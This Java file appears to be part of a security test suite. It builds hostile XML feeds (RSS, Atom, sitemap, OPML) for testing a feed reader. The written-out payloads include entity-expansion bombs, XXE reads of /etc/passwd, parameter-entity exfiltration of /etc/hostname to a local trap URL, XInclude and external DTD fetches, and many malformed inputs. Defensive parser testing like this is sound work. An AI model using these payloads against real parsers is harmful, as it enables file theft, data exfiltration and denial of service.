package io.onrecord.local.hostile;

import io.onrecord.local.hostile.Case.Bytes;
import io.onrecord.local.hostile.Case.Way;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/** What XML can do to its reader, in every kind of feed. */
final class Feeds implements Family {
    /**
     * A kind of feed.
     *
     * @param open its first tags
     * @param item one whole item, where {@code ~} stands for its text
     * @param close its last tags
     */
    private record Kind(String name, String open, String item, String close) {
        String of(String text) {
            return open + item.replace("~", text) + close;
        }

        /** The name of its root, for the type that is declared. */
        String root() {
            return open.substring(1, open.indexOf(' '));
        }
    }

    private static final List<Kind> KINDS = List.of(
            new Kind(
                    "RSS",
                    "<rss version='2.0'><channel><title>Wire</title>",
                    "<item><title>~</title><link>http://news.example/~</link><description>~</description></item>",
                    "</channel></rss>"),
            new Kind(
                    "RDF",
                    "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'>",
                    "<item rdf:about='http://news.example/a'><title>~</title><link>http://news.example/a</link></item>",
                    "</rdf:RDF>"),
            new Kind(
                    "Atom",
                    "<feed xmlns='http://www.w3.org/2005/Atom'><title>Wire</title>",
                    "<entry><id>a</id><title>~</title><content type='html'>~</content><link href='http://news.example/a'/></entry>",
                    "</feed>"),
            new Kind(
                    "sitemap",
                    "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>",
                    "<url><loc>http://news.example/~</loc></url>",
                    "</urlset>"),
            new Kind(
                    "list of sitemaps",
                    "<sitemapindex xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>",
                    "<sitemap><loc>http://news.example/~</loc></sitemap>",
                    "</sitemapindex>"),
            new Kind(
                    "OPML",
                    "<opml version='2.0'><body>",
                    "<outline text='~' xmlUrl='http://news.example/~'/>",
                    "</body></opml>"));

    private static final List<String> LABELS = List.of(
            "UTF-8",
            "utf8",
            "UTF-16",
            "UTF-16LE",
            "UTF-32",
            "UTF-7",
            "IBM037",
            "ISO-2022-JP",
            "Shift_JIS",
            "GB18030",
            "windows-1252",
            "x-unknown",
            "",
            "a".repeat(3000),
            "../../etc/passwd");

    @Override
    public Stream<Case> cases(Places places) {
        return KINDS.stream()
                .flatMap(kind ->
                        all(kind, places).entrySet().stream().map(each -> aCase(kind, each.getKey(), each.getValue())));
    }

    /** OPML is sent; all others are fetched. */
    private static Case aCase(Kind kind, String name, Bytes bytes) {
        Way way = kind.name.equals("OPML")
                ? new Way.Body("feeds.opml", "text/x-opml", bytes)
                : new Way.Feed(Served.of("application/xml", bytes), false);
        return Case.of("XML feeds", kind.name + ": " + name, way);
    }

    private static Map<String, Bytes> all(Kind kind, Places places) {
        Map<String, Bytes> all = new LinkedHashMap<>();
        types(all, kind, places);
        large(all, kind);
        broken(all, kind);
        encodings(all, kind);
        return all;
    }

    private static void types(Map<String, Bytes> all, Kind kind, Places places) {
        String trap = "http://127.0.0.2:" + places.trap() + "/";
        all.put("entities that grow tenfold, ten times", declared(kind, growing(), "&i;"));
        all.put(
                "one long entity, many times",
                declared(kind, "<!ENTITY a '" + "words ".repeat(20_000) + "'>", "&a;".repeat(20_000)));
        all.put("an entity in itself", declared(kind, "<!ENTITY a '&b;'><!ENTITY b '&a;'>", "&a;"));
        all.put("a file as entity", declared(kind, "<!ENTITY a SYSTEM 'file:///etc/passwd'>", "&a;"));
        all.put("a page as entity", declared(kind, "<!ENTITY a SYSTEM '" + trap + "'>", "&a;"));
        all.put("a page as parameter", declared(kind, "<!ENTITY % a SYSTEM '" + trap + "'>%a;", "x"));
        all.put(
                "a file in a page",
                declared(
                        kind,
                        "<!ENTITY % f SYSTEM 'file:///etc/hostname'><!ENTITY % a \"<!ENTITY b SYSTEM '" + trap
                                + "?%f;'>\">%a;",
                        "&b;"));
        all.put("a public entity", declared(kind, "<!ENTITY a PUBLIC '-//x' '" + trap + "'>", "&a;"));
        all.put(
                "a notation",
                declared(kind, "<!NOTATION n SYSTEM '" + trap + "'><!ENTITY a SYSTEM '" + trap + "' NDATA n>", "x"));
        all.put(
                "attributes by default",
                declared(kind, "<!ATTLIST " + kind.root() + " a CDATA '" + "x".repeat(50_000) + "'>", "x"));
        all.put("many declarations", declared(kind, "<!ENTITY a 'b'>".repeat(50_000), "x"));
        all.put("a type elsewhere", () -> utf8("<!DOCTYPE " + kind.root() + " SYSTEM '" + trap + "'>" + kind.of("x")));
        all.put(
                "a public type",
                () -> utf8("<!DOCTYPE " + kind.root() + " PUBLIC '-//x' '" + trap + "'>" + kind.of("x")));
        all.put(
                "a type that does not end",
                () -> utf8("<!DOCTYPE " + kind.root() + " [<!ENTITY a '" + "x".repeat(100_000)));
        all.put("a style sheet", () -> utf8("<?xml-stylesheet href='" + trap + "' type='text/xsl'?>" + kind.of("x")));
        all.put(
                "an inclusion",
                () -> utf8(
                        kind.of(
                                "<i:include xmlns:i='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>")));
        all.put(
                "a schema elsewhere",
                () -> utf8(kind.of("x")
                        .replaceFirst(
                                " ",
                                " xmlns:s='http://www.w3.org/2001/XMLSchema-instance' s:schemaLocation='a " + trap
                                        + "' ")));
    }

    private static void large(Map<String, Bytes> all, Kind kind) {
        all.put("deep", Make.repeated(kind.open, "<a>", 200_000, ""));
        all.put("deep and closed", () -> utf8(kind.of("<a>".repeat(50_000) + "</a>".repeat(50_000))));
        all.put(
                "items in items",
                Make.repeated(kind.open, kind.item.substring(0, kind.item.indexOf('>') + 1), 50_000, kind.close));
        all.put("many items", Make.repeated(kind.open, kind.item, 25_000, kind.close));
        all.put("an item of many fields", () -> utf8(kind.of("<b>x</b>".repeat(200_000))));
        all.put("a long text", () -> utf8(kind.of("x".repeat(2_000_000))));
        all.put("a long name", () -> utf8(kind.of("<" + "n".repeat(500_000) + "/>")));
        all.put("a long attribute", () -> utf8(kind.of("<a b='" + "v".repeat(1_000_000) + "'/>")));
        all.put("many attributes", () -> utf8(kind.of("<a " + numbered("a%d='v' ", 50_000) + "/>")));
        all.put("many namespaces", () -> utf8(kind.of("<a " + numbered("xmlns:n%d='u' ", 20_000) + "/>")));
        all.put("a long comment", () -> utf8(kind.of("<!--" + "- ".repeat(500_000) + "-->")));
        all.put("a long instruction", () -> utf8(kind.of("<?a " + "b ".repeat(500_000) + "?>")));
        all.put("markup in markup", () -> utf8(kind.of("<![CDATA[" + "<div><p>".repeat(100_000) + "]]>")));
        all.put("references to characters", () -> utf8(kind.of("&#120;".repeat(200_000))));
        all.put("escaped again and again", () -> utf8(kind.of("&" + "amp;".repeat(200_000) + "lt;")));
    }

    private static void broken(Map<String, Bytes> all, Kind kind) {
        for (int tenth = 0; tenth < 10; tenth++) {
            all.put("cut off after " + tenth + " tenths", Make.cut(Make.utf8(kind.of(Make.PROSE)), tenth / 10.0));
        }
        for (String text : List.of(
                "<![CDATA[",
                "]]>",
                "<!--",
                "<!-- -- -->",
                "<",
                "&",
                "&;",
                "&unknown;",
                "&#0;",
                "&#x110000;",
                "&#xD800;",
                "&#99999999999;",
                "<a",
                "<a b",
                "<a b=",
                "<a b='",
                "<a b=c>",
                "<a b='1' b='2'/>",
                "</a>",
                "<a:b/>",
                "<?xml version='1.0'?>",
                "\u0000",
                "\u0001",
                "\uFFFE",
                "<\u0000>",
                "<a/ >",
                "<a></b>",
                "<1/>",
                "<!ELEMENT a ANY>",
                "<![INCLUDE[",
                "{}",
                "%a;")) {
            all.put("with " + text + " in it", Make.utf8(kind.of(text)));
        }
        all.put("twice", Make.utf8(kind.of("x") + kind.of("x")));
        all.put("words before", Make.utf8("words " + kind.of("x")));
        all.put("words behind", Make.utf8(kind.of("x") + "words " + "\u0000".repeat(100)));
        all.put("in capitals", Make.utf8(kind.of("x").toUpperCase(java.util.Locale.ROOT)));
        all.put("only its root", Make.utf8(kind.open + kind.close));
        all.put("version 1.1 with controls", Make.utf8("<?xml version='1.1'?>" + kind.of("&#1;")));
        all.put("version 9.9", Make.utf8("<?xml version='9.9'?>" + kind.of("x")));
    }

    private static void encodings(Map<String, Bytes> all, Kind kind) {
        for (String label : LABELS) {
            String name = label.length() > 30 ? label.length() + " letters" : label;
            String head = "<?xml version='1.0' encoding='" + label + "'?>";
            all.put("said to be in " + name, Make.utf8(head + kind.of("caf\u00e9")));
        }
        for (var charset : List.of(StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE)) {
            all.put(
                    "in " + charset + " without a mark",
                    () -> kind.of("caf\u00e9").getBytes(charset));
            all.put("in " + charset + " with a mark", () -> ("\uFEFF" + kind.of("caf\u00e9")).getBytes(charset));
            all.put(
                    "in " + charset + " with an odd byte",
                    Make.cut(() -> kind.of("caf\u00e9").getBytes(charset), 0.995));
        }
        all.put("two byte order marks", Make.utf8("\uFEFF\uFEFF" + kind.of("x")));
        all.put("packed without saying so", Make.gzip(Make.utf8(kind.of("x"))));
        all.put("overlong UTF-8", Make.latin(kind.of("\u00c0\u00bc\u00e0\u0080\u00af\u00f8\u0088\u0080\u0080\u0080")));
    }

    private static String growing() {
        StringBuilder declarations = new StringBuilder("<!ENTITY a 'aaaaaaaaaa'>");
        for (char name = 'b'; name <= 'i'; name++) {
            declarations
                    .append("<!ENTITY ")
                    .append(name)
                    .append(" '")
                    .append(("&" + (char) (name - 1) + ";").repeat(10))
                    .append("'>");
        }
        return declarations.toString();
    }

    private static Bytes declared(Kind kind, String declarations, String text) {
        return () -> utf8("<?xml version='1.0'?><!DOCTYPE " + kind.root() + " [" + declarations + "]>" + kind.of(text));
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String numbered(String format, int times) {
        StringBuilder all = new StringBuilder();
        for (int i = 0; i < times; i++) {
            all.append(format.replace("%d", String.valueOf(i)));
        }
        return all.toString();
    }
}
